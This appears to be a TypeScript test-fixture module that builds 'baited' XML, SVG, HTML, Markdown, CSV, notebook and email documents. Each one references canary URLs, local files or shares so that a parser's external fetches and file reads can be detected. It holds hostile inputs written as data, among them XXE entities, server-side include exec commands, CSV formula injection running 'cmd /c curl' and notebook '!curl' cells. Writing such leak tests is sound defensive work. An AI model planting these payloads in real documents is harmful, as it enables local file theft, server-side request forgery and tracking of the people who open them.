// Text documents that refer to what is outside: XML, HTML, Markdown, mail and what else is read as text.
import { msgOf } from '../support/msg.ts';
import { type Bait, type BaitedDocuments, doctypes, visible } from './bait.ts';

export const baitedTexts = (bait: Bait): BaitedDocuments => ({
  ...xmlDocuments(bait),
  ...htmlDocuments(bait),
  ...plainDocuments(bait),
  ...mailDocuments(bait),
});

function xmlDocuments(bait: Bait): BaitedDocuments {
  const { url, file, fileUrl, share } = bait;
  const types = Object.entries(doctypes(bait));
  const svg = (inside: string, head = '') =>
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"><title>${visible}</title><text y="50">${visible}</text>${inside}</svg>`;
  const pictures = [url, fileUrl, file, share].map((at) => `<image xlink:href="${at}" href="${at}"/>`).join('');
  return {
    ...Object.fromEntries(
      types.map(([title, type]) => [`XML: ${title}`, ['a.xml', `${type}<r><p>${visible} &x;</p></r>`] as const]),
    ),
    'XML: includes': [
      'a.xml',
      `<r xmlns:xi="http://www.w3.org/2001/XInclude"><p>${visible}</p><xi:include href="${fileUrl}" parse="text"/><xi:include href="${url}/include"/></r>`,
    ],
    'XML: style sheets': [
      'a.xml',
      `<?xml-stylesheet type="text/xsl" href="${url}/a.xsl"?><?xml-stylesheet type="text/css" href="${fileUrl}"?><r><p>${visible}</p></r>`,
    ],
    'XML: schemas and a base': [
      'a.xml',
      `<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${url}/x.xsd" xsi:noNamespaceSchemaLocation="${fileUrl}" xml:base="${url}/"><p>${visible}</p></r>`,
    ],
    'XML: a style sheet that reads': [
      'a.xml',
      `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:import href="${url}/i.xsl"/><xsl:include href="${fileUrl}"/><xsl:template match="/">${visible}<xsl:copy-of select="document('${fileUrl}')"/></xsl:template></xsl:stylesheet>`,
    ],
    'XML: a feed': [
      'feed.xml',
      `<rss version="2.0"><channel><title>${visible}</title><link>${url}</link><image><url>${url}/i.png</url></image><item><title>${visible}</title><enclosure url="${url}/e.mp3" type="audio/mpeg" length="1"/><description>&lt;img src="${url}/d.png"&gt;&lt;img src="${fileUrl}"&gt;</description></item></channel></rss>`,
    ],
    'SVG: pictures': ['a.svg', svg(pictures)],
    'SVG: uses, fonts and scripts': [
      'a.svg',
      svg(
        `<use href="${url}/u.svg#a"/><style>@import "${url}/s.css";@font-face{font-family:x;src:url(${url}/f.woff)}text{fill:url(${fileUrl}#g)}</style><script href="${url}/s.js"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/frame"/></foreignObject>`,
      ),
    ],
    'SVG: an entity': ['a.svg', svg('<text>&x;</text>', types[0]?.[1])],
    'SVG that says it is PNG': ['a.png', svg(pictures)],
  };
}

function htmlDocuments({ url, file, fileUrl, share }: Bait): BaitedDocuments {
  const page = (body: string, head = '') =>
    `<!doctype html><html><head><title>T</title>${head}</head><body><main><h1>${visible}</h1><p>${visible} in a sentence that is long enough.</p>${body}</main></body></html>`;
  const all = [url, fileUrl, file, share];
  const each = (write: (at: string) => string) => all.map(write).join('');
  return {
    'HTML: pictures': ['a.html', page(each((at) => `<img src="${at}" srcset="${at} 2x" longdesc="${at}" alt="p">`))],
    'HTML: pictures to choose from': [
      'a.html',
      page(each((at) => `<picture><source srcset="${at}"><img data-src="${at}"></picture>`)),
    ],
    'HTML: frames': [
      'a.html',
      page(each((at) => `<iframe src="${at}"></iframe><object data="${at}"></object><embed src="${at}">`)),
    ],
    'HTML: a frame set': [
      'a.html',
      `<html><frameset cols="*">${each((at) => `<frame src="${at}">`)}<noframes>${visible}</noframes></frameset></html>`,
    ],
    'HTML: a refresh': ['a.html', page('', `<meta http-equiv="refresh" content="0;url=${url}/refresh">`)],
    'HTML: a base': ['a.html', page('<img src="i.png"><a href="x">x</a>', `<base href="${url}/">`)],
    'HTML: a file as base': ['a.html', page('<img src="canary.txt">', `<base href="${fileUrl}">`)],
    'HTML: imports and styles': [
      'a.html',
      page(
        '',
        `${each((at) => `<link rel="import" href="${at}"><link rel="stylesheet" href="${at}"><link rel="preconnect" href="${at}"><link rel="icon" href="${at}">`)}<style>@import url(${url}/s.css);body{background:url(${fileUrl})}</style>`,
      ),
    ],
    'HTML: scripts': [
      'a.html',
      page(
        `<script src="${url}/s.js"></script><script>fetch("${url}/fetch")</script><img src=x onerror="fetch('${url}/error')">`,
      ),
    ],
    'HTML: sound and film': [
      'a.html',
      page(each((at) => `<video src="${at}" poster="${at}"><track src="${at}"></video><audio src="${at}"></audio>`)),
    ],
    'HTML: forms and pings': [
      'a.html',
      page(
        each(
          (at) =>
            `<form action="${at}"><input type="image" src="${at}"></form><a href="${at}" ping="${url}/ping">x</a>`,
        ),
      ),
    ],
    'HTML: includes of servers': [
      'a.html',
      page(
        `<!--#include file="${file}" --><!--#include virtual="${url}" --><!--#exec cmd="cat ${file}" --><?php readfile("${file}"); ?>`,
      ),
    ],
    'HTML: an entity': [
      'a.xhtml',
      `<!DOCTYPE html [<!ENTITY x SYSTEM "${fileUrl}">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>${visible} &x;</p></body></html>`,
    ],
    'HTML: formulas and manifests': [
      'a.html',
      page(`<math><mglyph src="${url}/m.png"/><annotation src="${fileUrl}"/></math>`).replace(
        '<html>',
        `<html manifest="${url}/m">`,
      ),
    ],
  };
}

function plainDocuments({ url, file, fileUrl, share }: Bait): BaitedDocuments {
  const png = 'iVBORw0KGgo=';
  return {
    'Markdown: pictures and links': [
      'a.md',
      `# ${visible}\n\n![a](${url}/a.png) ![b](${fileUrl}) ![c](${file}) ![d](<${share}>)\n\n![e][r]\n\n[r]: ${url}/r.png\n\n<img src="${url}/i.png"><iframe src="${fileUrl}"></iframe>\n`,
    ],
    'Markdown: includes': [
      'a.md',
      `---\ntitle: ${visible}\nbibliography: ${file}\ncss: ${url}/s.css\n---\n\n${visible}\n\n{% include "${file}" %}\n{{< include ${file} >}}\n!include ${file}\n![[${file}]]\n<<[${file}]\n--8<-- "${file}"\n`,
    ],
    'text: includes': [
      'a.txt',
      `${visible}\n\n.. include:: ${file}\n.. image:: ${url}/i.png\ninclude::${file}[]\n\\input{${file}}\n#include "${file}"\n@${file}\n`,
    ],
    'CSV: formulas': [
      'a.csv',
      `name,value\n${visible},"=WEBSERVICE(""${url}/w"")"\nb,"=IMPORTXML(""${url}"",""//a"")"\nc,"='${share}[a.xlsx]S'!A1"\nd,"=cmd|'/c curl ${url}'!A1"\n`,
    ],
    'JSON: references': [
      'a.json',
      JSON.stringify({
        title: visible,
        $ref: `${url}/schema.json`,
        $schema: fileUrl,
        file,
        include: { $ref: fileUrl },
      }),
    ],
    'a notebook': [
      'a.ipynb',
      JSON.stringify({
        nbformat: 4,
        metadata: {},
        cells: [
          {
            cell_type: 'markdown',
            source: `${visible} ![a](${url}/a.png) ![b](attachment:x.png) ![c](${fileUrl})`,
            attachments: { 'x.png': { 'image/png': png } },
          },
          {
            cell_type: 'code',
            source: `%load ${file}\n!curl ${url}`,
            outputs: [
              {
                output_type: 'display_data',
                data: {
                  'text/html': `<img src="${url}/o.png"><iframe src="${fileUrl}">`,
                  'image/svg+xml': `<svg><image href="${fileUrl}"/></svg>`,
                },
              },
            ],
          },
        ],
      }),
    ],
  };
}

function mailDocuments({ url, file, fileUrl, share }: Bait): BaitedDocuments {
  const html = `<html><body><p>${visible}</p><img src="${url}/track.gif"><img src="${fileUrl}"><img src="${share}"><img src="cid:a@b"><link rel=stylesheet href="${url}/s.css"></body></html>`;
  const rtf = `{\\rtf1\\ansi ${visible} {\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${file.replaceAll('\\', '/')}"}{\\fldrslt y}}{\\*\\template ${url}/t.dotm}{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 0105}}}`;
  const head = `From: a@x.example\r\nTo: b@x.example\r\nSubject: ${visible}\r\nDisposition-Notification-To: ${url}\r\nList-Unsubscribe: <${url}/out>\r\nMIME-Version: 1.0\r\n`;
  const outlook = (properties: Record<string, string | number | { hex: string } | { rtf: string }>) =>
    msgOf({ properties: { '001A001F': 'IPM.Note', '0037001F': visible, ...properties } });
  return {
    'mail: linked pictures': ['a.eml', `${head}Content-Type: text/html; charset=utf-8\r\n\r\n${html}`],
    'mail: a body elsewhere': [
      'a.eml',
      `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n${visible}\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${url}/body"\r\n\r\nContent-Type: text/plain\r\n\r\n--b\r\nContent-Type: message/external-body; access-type=local-file; name="${file}"\r\n\r\nContent-Type: text/plain\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${url}/x.html\r\n\r\n${html}\r\n--b--\r\n`,
    ],
    'Outlook: linked pictures': ['a.msg', outlook({ '10130102': { hex: Buffer.from(html).toString('hex') } })],
    'Outlook: rich text': ['a.msg', outlook({ '10090102': { rtf } })],
    'Outlook: attachments by reference': [
      'a.msg',
      msgOf({
        properties: { '001A001F': 'IPM.Note', '0037001F': visible, '1000001F': visible },
        attachments: [
          { properties: { '37050003': 2, '3708001F': file, '370D001F': file, '3707001F': 'canary.txt' } },
          { properties: { '37050003': 4, '370D001F': share, '3707001F': 'share.txt' } },
          { properties: { '37050003': 7, '370D001F': `${url}/attached.txt`, '3707001F': 'web.txt' } },
        ],
      }),
    ],
    'Outlook: a reminder with a sound': [
      'a.msg',
      outlook({ '1000001F': visible, '8503000B': 1, '851F001F': share, '001A001F': 'IPM.Appointment' }),
    ],
  };
}
